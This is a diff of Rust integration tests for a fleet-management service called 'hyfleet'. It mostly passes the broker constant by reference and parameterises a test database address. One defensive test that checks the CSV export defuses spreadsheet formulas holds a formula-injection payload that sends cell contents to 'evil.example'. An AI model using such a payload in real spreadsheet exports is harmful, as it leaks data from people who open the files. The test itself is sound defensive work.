@@ -82,7 +82,7 @@ type Answer = (StatusCode, Duration, Option<String>, Value);
 async fn slow_api_queries_stall_neither_ingest_nor_webhooks() {
     let (url, inbox) = receiver().await;
     let db = TestDb::new().await;
-    let mut c = config(&db, BROKER);
+    let mut c = config(&db, &BROKER);
     c.database.pool_size = 2;
     c.database.pool_wait_ms = 500;
     c.database.statement_timeout_ms = 2000;
@@ -129,7 +129,7 @@ async fn slow_api_queries_stall_neither_ingest_nor_webhooks() {
     // Let the load take every API connection first.
     tokio::time::sleep(Duration::from_secs(1)).await;
 
-    let mut fw = Publisher::connect(BROKER).await;
+    let mut fw = Publisher::connect(&BROKER).await;
     let published = Instant::now();
     publish_tank_fault(&mut fw, &root, "XY-B0001").await;
     let client = db.client().await;
@@ -192,7 +192,7 @@ async fn slow_api_queries_stall_neither_ingest_nor_webhooks() {
 #[tokio::test]
 async fn long_ranges_and_too_many_buckets_are_refused_naming_the_limit() {
     let db = TestDb::new().await;
-    let svc = InProcess::start(config(&db, BROKER)).await;
+    let svc = InProcess::start(config(&db, &BROKER)).await;
     db.client()
         .await
         .execute(
@@ -265,7 +265,7 @@ async fn long_ranges_and_too_many_buckets_are_refused_naming_the_limit() {
 #[tokio::test]
 async fn a_control_character_in_any_parameter_of_any_route_is_a_400_problem() {
     let db = TestDb::new().await;
-    let svc = InProcess::start(config(&db, BROKER)).await;
+    let svc = InProcess::start(config(&db, &BROKER)).await;
     db.client()
         .await
         .execute(
@@ -330,10 +330,10 @@ async fn a_control_character_in_any_parameter_of_any_route_is_a_400_problem() {
 #[tokio::test]
 async fn csv_export_defuses_cells_a_spreadsheet_would_run() {
     let db = TestDb::new().await;
-    let c = config(&db, BROKER);
+    let c = config(&db, &BROKER);
     let root = c.mqtt.topic_root.clone();
     let svc = InProcess::start(c).await;
-    let mut fw = Publisher::connect(BROKER).await;
+    let mut fw = Publisher::connect(&BROKER).await;
     let now = chrono::Utc::now();
     let faults = [
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"E12\")",
@@ -391,7 +391,7 @@ async fn csv_export_defuses_cells_a_spreadsheet_would_run() {
 #[tokio::test]
 async fn published_commands_validate_against_the_command_schema() {
     let db = TestDb::new().await;
-    let c = config(&db, BROKER);
+    let c = config(&db, &BROKER);
     let root = c.mqtt.topic_root.clone();
     let svc = InProcess::start(c).await;
     db.client()
@@ -403,7 +403,7 @@ async fn published_commands_validate_against_the_command_schema() {
         )
         .await
         .unwrap();
-    let ep = hyfleet::config::parse_mqtt_url(BROKER).unwrap();
+    let ep = hyfleet::config::parse_mqtt_url(&BROKER).unwrap();
     let (client, mut events) = rumqttc::AsyncClient::new(
         rumqttc::MqttOptions::new(unique("bike"), ep.host, ep.port),
         100,
@@ -552,7 +552,7 @@ async fn create_token(svc: &InProcess, name: &str) -> (i64, String) {
 #[tokio::test]
 async fn deleting_a_token_ends_its_open_event_streams() {
     let db = TestDb::new().await;
-    let c = config(&db, BROKER);
+    let c = config(&db, &BROKER);
     let mut c2 = c.clone();
     c2.mqtt.client_id = unique("hyfleet");
     let svc = InProcess::start(c).await;
@@ -683,7 +683,8 @@ async fn the_grafana_role_runs_the_dashboards_and_reads_no_secret() {
     );
     let result = async {
         let grafana = hyfleet::store::connect(&format!(
-            "postgres://{role}:grafana-test-password@127.0.0.1:5432/{}",
+            "postgres://{role}:grafana-test-password@{}/{}",
+            pg_addr(),
             db.name
         ))
         .await
@@ -842,7 +843,7 @@ async fn database_url_passwords_never_reach_the_output() {
 #[tokio::test]
 async fn a_nul_in_a_json_body_is_a_400_problem() {
     let db = TestDb::new().await;
-    let svc = InProcess::start(config(&db, BROKER)).await;
+    let svc = InProcess::start(config(&db, &BROKER)).await;
     let client = db.client().await;
     let vehicle: i32 = client
         .query_one(
@@ -938,7 +939,7 @@ async fn a_nul_in_a_json_body_is_a_400_problem() {
 #[tokio::test]
 async fn event_streams_are_capped_per_token_and_in_all() {
     let db = TestDb::new().await;
-    let mut c = config(&db, BROKER);
+    let mut c = config(&db, &BROKER);
     c.api.max_streams = 3;
     c.api.max_streams_per_token = 2;
     let svc = InProcess::start(c).await;
@@ -995,7 +996,7 @@ async fn event_streams_are_capped_per_token_and_in_all() {
 #[tokio::test]
 async fn public_feed_readers_do_not_take_the_operators_connections() {
     let db = TestDb::new().await;
-    let mut c = config(&db, BROKER);
+    let mut c = config(&db, &BROKER);
     c.database.pool_size = 2;
     c.database.public_pool_size = 2;
     c.database.pool_wait_ms = 500;
